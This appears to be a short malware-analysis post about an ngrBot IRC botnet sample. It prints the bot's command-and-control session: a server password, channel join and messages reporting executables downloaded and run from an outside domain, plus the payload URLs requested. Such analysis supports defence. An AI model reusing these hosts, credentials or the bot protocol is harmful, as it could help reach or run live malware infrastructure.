hosted in Russian Federation Moscow Jsc Tel Company)

Remote Host Port Number 7777 PASS laekin0505x 80 80

NICK n{US|XPa}lwndarv
USER lwndarv 0 0 :lwndarv
JOIN #totalrenovation2011 ngrBot
PRIVMSG #totalrenovation2011 :[d=”http://juazjuaz.com/cipha.exe” s=”114688 bytes”] Executed file “C:Documents and SettingsUserNameApplication Data1.exe” – Download retries: 0
PRIVMSG #totalrenovation2011 :[d=”http://juazjuaz.com/Winsoft.exe” s=”167936 bytes”] Updated bot file “C:Documents and SettingsUserNameApplication DataMcxaxm.exe” – Download retries: 0

* The dataidentified by the following URLs was then requested from the remote web server:
o http://juazjuaz.com/cipha.exe
o http://juazjuaz.com/Winsoft.exe
ohttp://api.wipmania.com/

hosting infos:

Categories: Uncategorized